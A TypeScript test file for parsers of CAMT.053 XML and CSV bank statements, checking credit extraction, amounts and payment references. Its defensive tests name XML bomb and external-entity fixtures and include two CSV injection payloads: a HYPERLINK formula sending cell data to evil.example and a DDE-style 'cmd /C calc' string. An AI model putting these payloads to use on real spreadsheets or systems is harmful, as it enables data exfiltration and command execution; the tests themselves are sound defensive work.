import { readFileSync } from 'node:fs'
import { describe, expect, test } from 'vitest'
import { parseCamt053, parseStatement } from './camt053'
import { minorOfAmount, parseCsvStatement, referencesIn } from './statement'

const fixture = (name: string) =>
	readFileSync(new URL(`../../../tests/fixtures/bank-statements/${name}`, import.meta.url), 'utf8')

describe('reading a CAMT.053 statement', () => {
	test('booked credits only, with amount, currency, day, remittance and payer (.001.02)', () => {
		expect(parseCamt053(fixture('camt053-001-02.xml'))).toEqual({
			ok: true,
			format: 'camt.053',
			credits: [
				{
					bankRef: 'DE89370400440532013000:2026112900012345',
					bookedOn: '2026-11-29',
					amountMinor: 124500,
					currency: 'eur',
					remittance: 'RF4653900754703400',
					payer: 'Acme GmbH',
				},
				{
					bankRef: 'DE89370400440532013000:2026112900012346',
					bookedOn: '2026-11-29',
					amountMinor: 30050,
					currency: 'eur',
					remittance: 'Invoice 2026-0042 ref rf53 1234 5678 9012 34 thanks',
					payer: 'Widget & Sons Ltd',
				},
			],
		})
	})

	test('a batch entry is one credit per transaction; the debtor as .001.08 writes it', () => {
		const parsed = parseCamt053(fixture('camt053-001-08.xml'))
		expect(parsed.ok && parsed.credits).toEqual([
			{
				bankRef: 'CH9300762011623852957:CH-BATCH-77/CH-77-1',
				bookedOn: '2026-11-30',
				amountMinor: 100000,
				currency: 'chf',
				remittance: 'RF06 9999 0000 1111 22',
				payer: 'Helvetia AG',
			},
			{
				bankRef: 'CH9300762011623852957:CH-BATCH-77/CH-77-2',
				bookedOn: '2026-11-30',
				amountMinor: 50000,
				currency: 'chf',
				remittance: 'Workshop seats no reference',
				payer: 'Jura Sàrl',
			},
		])
	})

	test('a DOCTYPE with entity expansion (billion laughs) is refused before parsing', () => {
		expect(parseCamt053(fixture('billion-laughs.xml'))).toEqual({
			ok: false,
			error: 'A bank statement with a DOCTYPE or entity declarations is refused.',
		})
	})

	test('an external entity is refused and nothing is read from the disk', () => {
		const parsed = parseCamt053(fixture('external-entity.xml'))
		expect(parsed.ok).toBe(false)
		expect(JSON.stringify(parsed)).not.toContain('root:')
	})

	test('XML that is not well-formed or not a statement is refused with a reason', () => {
		expect(parseCamt053('<Document><BkToCstmrStmt>')).toMatchObject({
			ok: false,
			error: expect.stringMatching(/^The file is not well-formed XML \(line \d+\)\.$/),
		})
		expect(parseCamt053('<Document><Other/></Document>')).toEqual({
			ok: false,
			error: 'The XML is not a CAMT.053 bank statement (no BkToCstmrStmt/Stmt).',
		})
	})
})

describe('reading a CSV statement', () => {
	test('columns by their header in any order, semicolons, quotes; debits skipped', () => {
		expect(parseCsvStatement(fixture('statement.csv'))).toEqual({
			ok: true,
			format: 'csv',
			credits: [
				{
					bankRef: null,
					bookedOn: '2026-11-29',
					amountMinor: 124500,
					currency: 'eur',
					remittance: 'Invoice 12, RF46 5390 0754 7034 00',
					payer: 'Acme GmbH',
				},
				{
					bankRef: null,
					bookedOn: '2026-11-30',
					amountMinor: 30050,
					currency: 'eur',
					remittance: 'rf53-1234-5678-9012-34 "thanks"',
					payer: 'Widget & Sons Ltd',
				},
			],
		})
	})

	test('formula-looking cells are kept as the text they are', () => {
		const parsed = parseStatement(fixture('formula-injection.csv'))
		expect(parsed.ok && parsed.credits[0]).toMatchObject({
			remittance: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
			payer: "@SUM(1+1)*cmd|' /C calc'!A0",
		})
	})

	test('a missing column or a bad line refuses the whole file, naming the line', () => {
		expect(parseCsvStatement('date,amount\n2026-11-29,1')).toEqual({
			ok: false,
			error:
				"The CSV's first line names its columns: date, amount, currency, reference, payer (missing: currency, reference, payer).",
		})
		const header = 'date,amount,currency,reference,payer\n'
		expect(parseCsvStatement(`${header}2026-11-29,1,EUR,a,b\n29.11.2026,1,EUR,a,b`)).toEqual({
			ok: false,
			error: 'Line 3: the date must be a day like 2026-11-29.',
		})
		expect(parseCsvStatement(`${header}2026-11-29,"1,5",EUR,a,b`)).toEqual({
			ok: false,
			error: 'Line 2: the amount must be a number like 1245.00.',
		})
		expect(parseCsvStatement(`${header}2026-11-29,1,EURO,a,b`)).toEqual({
			ok: false,
			error: 'Line 2: the currency must be a code like EUR.',
		})
	})
})

test('amounts are read exactly, to the currency’s decimals', () => {
	expect(minorOfAmount('1245.10', 'EUR')).toBe(124510)
	expect(minorOfAmount('0.1', 'EUR')).toBe(10)
	expect(minorOfAmount('1200', 'JPY')).toBe(1200)
	expect(minorOfAmount('12.5', 'JPY')).toBeNull()
	expect(minorOfAmount('1.234', 'EUR')).toBeNull()
	expect(minorOfAmount('1e3', 'EUR')).toBeNull()
})

test('a reference is found anywhere in the remittance, however spaced or cased', () => {
	expect(referencesIn('Invoice 12, rf46 5390-0754 7034 00 thanks')).toContain('RF4653900754703400')
	expect(referencesIn('Workshop seats')).toEqual([])
	expect(referencesIn('RF47 5390 0754 7034 00')).not.toContain('RF4753900754703400')
})
